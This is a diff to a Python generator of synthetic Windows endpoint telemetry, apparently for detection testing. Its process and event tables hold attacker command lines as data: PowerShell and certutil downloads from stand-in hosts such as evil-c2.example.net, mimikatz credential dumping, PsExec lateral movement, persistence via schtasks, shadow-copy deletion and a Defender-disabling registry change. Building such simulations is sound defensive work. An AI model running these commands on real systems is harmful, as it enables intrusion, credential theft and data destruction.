@@ -16,74 +16,7 @@ _STAGE2 = "IEX (New-Object Net.WebClient).DownloadString('http://evil-c2.example
 ENCODED_STAGE2 = base64.b64encode(_STAGE2.encode("utf-16-le")).decode("ascii")
 
 SYS32 = "C:\\Windows\\System32\\"
-_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
 _PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-
-
-def _proc(
-    file: str,
-    path: str,
-    cmd: str,
-    parent: str,
-    parent_path: str,
-    company: str,
-    weight: int,
-    *,
-    account: str = "user",
-    integrity: str = "Medium",
-    extra: str = "",
-) -> dict[str, Any]:
-    return {
-        "file": file,
-        "path": path,
-        "cmd": cmd,
-        "parent": parent,
-        "parent_path": parent_path,
-        "company": company,
-        "account": account,
-        "integrity": integrity,
-        "extra": extra,
-        "weight": weight,
-    }
-
-
-_MS = "Microsoft Corporation"
-_EXPLORER = ("explorer.exe", "C:\\Windows\\explorer.exe")
-#: DeviceProcessEvents: the created process, its parent, and who ran it.
-PROCESS_PROFILES: tuple[dict[str, Any], ...] = (
-    _proc("svchost.exe", SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "services.exe", SYS32 + "services.exe", _MS, 220, account="system", integrity="System"),
-    _proc("conhost.exe", SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd.exe", SYS32 + "cmd.exe", _MS, 120),
-    _proc("cmd.exe", SYS32 + "cmd.exe", 'cmd.exe /c "C:\\Program Files\\Contoso\\Agent\\healthcheck.bat"', *_EXPLORER, _MS, 80),
-    _proc("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n}', *_EXPLORER, "Google LLC", 140),
-    _proc("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}', *_EXPLORER, _MS, 120),
-    _proc("OUTLOOK.EXE", _OFFICE + "OUTLOOK.EXE", '"OUTLOOK.EXE" /recycle', *_EXPLORER, _MS, 70),
-    _proc("EXCEL.EXE", _OFFICE + "EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\budget-{n}.xlsx"', *_EXPLORER, _MS, 50),
-    _proc("WINWORD.EXE", _OFFICE + "WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q{n}-report.docx"', *_EXPLORER, _MS, 50),
-    _proc("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe", '"ms-teams.exe" msteams:system-initiated', *_EXPLORER, _MS, 60),
-    _proc("powershell.exe", _PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Contoso\\inventory.ps1", "svchost.exe", SYS32 + "svchost.exe", _MS, 40, account="system", integrity="System"),
-    _proc("powershell.exe", _PS, "powershell.exe Get-Service | Where-Object Status -eq 'Running'", "cmd.exe", SYS32 + "cmd.exe", _MS, 15),
-    _proc("taskhostw.exe", SYS32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "svchost.exe", SYS32 + "svchost.exe", _MS, 40),
-    _proc("SearchProtocolHost.exe", SYS32 + "SearchProtocolHost.exe", '"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}', "SearchIndexer.exe", SYS32 + "SearchIndexer.exe", _MS, 40, account="system", integrity="System"),
-    _proc("WmiPrvSE.exe", SYS32 + "wbem\\WmiPrvSE.exe", "WmiPrvSE.exe -Embedding", "svchost.exe", SYS32 + "svchost.exe", _MS, 30, account="system", integrity="System"),
-    _proc("RuntimeBroker.exe", SYS32 + "RuntimeBroker.exe", "RuntimeBroker.exe -Embedding", "svchost.exe", SYS32 + "svchost.exe", _MS, 30),
-    _proc("notepad.exe", SYS32 + "notepad.exe", '"notepad.exe" C:\\Users\\{user}\\Desktop\\notes-{n}.txt', *_EXPLORER, _MS, 20),
-    _proc("git.exe", "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin --prune", "Code.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "The Git Development Community", 20),
-    _proc("python.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe", "python.exe -m pytest tests -q", "cmd.exe", SYS32 + "cmd.exe", "Python Software Foundation", 10),
-    _proc("whoami.exe", SYS32 + "whoami.exe", "whoami /all", "cmd.exe", SYS32 + "cmd.exe", _MS, 3),
-    _proc("net.exe", SYS32 + "net.exe", 'net group "Domain Admins" /domain', "cmd.exe", SYS32 + "cmd.exe", _MS, 2),
-    _proc("nltest.exe", SYS32 + "nltest.exe", "nltest /dclist:contoso.com", "cmd.exe", SYS32 + "cmd.exe", _MS, 1),
-    _proc("powershell.exe", _PS, f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED_STAGE2}", "WINWORD.EXE", _OFFICE + "WINWORD.EXE", _MS, 2, extra='{"ParentMacro":true}'),
-    _proc("powershell.exe", _PS, 'powershell.exe -nop -c "Invoke-WebRequest -Uri http://malware-drop.example.org/p.exe -OutFile C:\\Users\\Public\\p.exe"', "cmd.exe", SYS32 + "cmd.exe", _MS, 1),
-    _proc("mimikatz.exe", "C:\\Users\\{user}\\Downloads\\mimikatz.exe", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "cmd.exe", SYS32 + "cmd.exe", "gentilkiwi (Benjamin DELPY)", 1, integrity="High"),
-    _proc("Mimikatz.EXE", "C:\\Users\\Public\\Mimikatz.EXE", 'Mimikatz.EXE "lsadump::dcsync /user:krbtgt" exit', "powershell.exe", _PS, "gentilkiwi (Benjamin DELPY)", 1, integrity="High"),
-    _proc("PsExec.exe", "C:\\Tools\\PsExec.exe", "PsExec.exe \\\\{host} -accepteula -s cmd.exe", "cmd.exe", SYS32 + "cmd.exe", "Sysinternals - www.sysinternals.com", 1, integrity="High"),
-    _proc("psexec.exe", "C:\\Users\\{user}\\Downloads\\psexec.exe", "psexec.exe \\\\{host} -u CONTOSO\\administrator cmd.exe", "powershell.exe", _PS, "Sysinternals - www.sysinternals.com", 1, integrity="High"),
-    _proc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe", SYS32 + "services.exe", "Sysinternals", 1, account="system", integrity="System"),
-    _proc("certutil.exe", SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://evil-c2.example.net/beacon.dll C:\\Users\\Public\\beacon.dll", "cmd.exe", SYS32 + "cmd.exe", _MS, 1),
-    _proc("rundll32.exe", SYS32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\beacon.dll,Start", "powershell.exe", _PS, _MS, 1),
-    _proc("schtasks.exe", SYS32 + "schtasks.exe", 'schtasks.exe /create /tn "OneDrive Update" /tr C:\\Users\\Public\\updater.exe /sc onlogon /f', "powershell.exe", _PS, _MS, 1, integrity="High"),
-    _proc("vssadmin.exe", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe", SYS32 + "cmd.exe", _MS, 1, integrity="High"),
-)  # fmt: skip
 
 
 def _dest(
@@ -111,6 +44,14 @@ NETWORK_DESTINATIONS: tuple[dict[str, Any], ...] = (
     _dest("", "", 445, "Tcp", "System", 20, "in"),
     _dest("", "", 3389, "Tcp", "svchost.exe", 5, "in"),
     _dest("", "", 5985, "Tcp", "svchost.exe", 3, "in"),
+    # Sites the tenant's mail links to: clicks in UrlClickEvents show up here as browser connections.
+    _dest("news.fabrikam.example", "198.51.100.30", 443, "Tcp", "msedge.exe", 8),
+    _dest("billing.fabrikam.example", "198.51.100.31", 443, "Tcp", "msedge.exe", 4),
+    _dest("tailspintoys.example", "198.51.100.40", 443, "Tcp", "msedge.exe", 4),
+    _dest("downloads.tailspintoys.example", "198.51.100.41", 443, "Tcp", "chrome.exe", 2),
+    _dest("deals.example.net", "198.51.100.140", 80, "Tcp", "msedge.exe", 1),
+    _dest("login.micros0ft-security.example", "203.0.113.45", 443, "Tcp", "msedge.exe", 1),
+    _dest("sharepoint-files.example", "203.0.113.46", 443, "Tcp", "msedge.exe", 1),
     _dest("evil-c2.example.net", "203.0.113.66", 443, "Tcp", "rundll32.exe", 2),
     _dest("cdn.evilupdate.example.com", "198.51.100.23", 8080, "Tcp", "powershell.exe", 1),
     _dest("malware-drop.example.org", "203.0.113.10", 80, "Tcp", "certutil.exe", 1),
@@ -307,7 +248,13 @@ def _devent(
     url: str = "",
     proc: str = "",
     extra: str = "",
+    ip: str = "",
+    port: int = 0,
+    origin: str = "",
+    registry: tuple[str, str, str] = ("", "", ""),
 ) -> dict[str, Any]:
+    """``ip`` ``dc`` is a domain controller (``RemoteDeviceName`` too); ``origin`` a download URL;
+    ``registry`` the key, value name and data a tampering attempt touched."""
     return {
         "action": action,
         "file": file,
@@ -315,6 +262,12 @@ def _devent(
         "url": url,
         "proc": proc,
         "extra": extra,
+        "ip": ip,
+        "port": port,
+        "origin": origin,
+        "reg_key": registry[0],
+        "reg_name": registry[1],
+        "reg_data": registry[2],
         "weight": weight,
     }
 
@@ -329,14 +282,15 @@ DEVICE_EVENT_PROFILES: tuple[dict[str, Any], ...] = (
     _devent("ScheduledTaskCreated", 1, proc="schtasks.exe", extra='{"TaskName":"\\\\OneDrive Update","TaskContent":"C:\\\\Users\\\\Public\\\\updater.exe"}'),
     _devent("BrowserLaunchedToOpenUrl", 10, url="https://contoso.sharepoint.com/sites/team/notes-{n}", proc="OUTLOOK.EXE"),
     _devent("UsbDriveMounted", 3, proc="svchost.exe", extra='{"DriveLetter":"E:","ProductName":"Ultra","Manufacturer":"SanDisk","SerialNumber":"4C530001{n}"}'),
-    _devent("SmartScreenUrlWarning", 1, url="https://login.micros0ft-security.example/verify?u={n}", proc="msedge.exe", extra='{"Experience":"Phishing"}'),
-    _devent("ExploitGuardNetworkProtectionBlocked", 1, url="evil-c2.example.net", proc="rundll32.exe", extra='{"ResponseCategory":"CustomBlockList"}'),
+    _devent("SmartScreenUrlWarning", 1, url="https://login.micros0ft-security.example/verify?u={n}", proc="msedge.exe", extra='{"Experience":"Phishing"}', ip="203.0.113.45", port=443),
+    _devent("ExploitGuardNetworkProtectionBlocked", 1, url="evil-c2.example.net", proc="rundll32.exe", extra='{"ResponseCategory":"CustomBlockList"}', ip="203.0.113.66", port=443),
     _devent("AntivirusDetection", 1, file="mimikatz.exe", folder="C:\\Users\\{user}\\Downloads\\mimikatz.exe", proc="explorer.exe", extra='{"ThreatName":"HackTool:Win32/Mimikatz.D","WasRemediated":true,"WasExecutingWhileDetected":false}'),
-    _devent("AntivirusDetection", 1, file="setup-{n}.exe", folder="C:\\Users\\{user}\\Downloads\\setup-{n}.exe", proc="chrome.exe", extra='{"ThreatName":"PUA:Win32/Presenoker","WasRemediated":true,"WasExecutingWhileDetected":false}'),
+    _devent("AntivirusDetection", 1, file="setup-{n}.exe", folder="C:\\Users\\{user}\\Downloads\\setup-{n}.exe", proc="chrome.exe", extra='{"ThreatName":"PUA:Win32/Presenoker","WasRemediated":true,"WasExecutingWhileDetected":false}', origin="https://downloads.tailspintoys.example/setup"),
     _devent("AsrOfficeChildProcessBlocked", 1, file="powershell.exe", folder=_PS, proc="WINWORD.EXE", extra='{"IsAudit":false}'),
     _devent("OpenProcessApiCall", 1, file="lsass.exe", folder=SYS32 + "lsass.exe", proc="mimikatz.exe", extra='{"DesiredAccess":5136}'),
-    _devent("LdapSearch", 2, proc="powershell.exe", extra='{"SearchFilter":"(objectCategory=computer)","AttributeList":["name","operatingSystem"]}'),
+    _devent("LdapSearch", 2, proc="powershell.exe", extra='{"SearchFilter":"(objectCategory=computer)","AttributeList":["name","operatingSystem"]}', ip="dc", port=389),
     _devent("UserAccountCreated", 1, proc="net.exe", extra='{"AccountName":"helpdesk-tmp"}'),
+    _devent("TamperingAttempt", 1, proc="reg.exe", extra='{"TamperingAction":"RegistryModification","Status":"Blocked","Target":"DisableAntiSpyware"}', registry=("HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "1")),
 )  # fmt: skip
 
 RUN_KEY = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
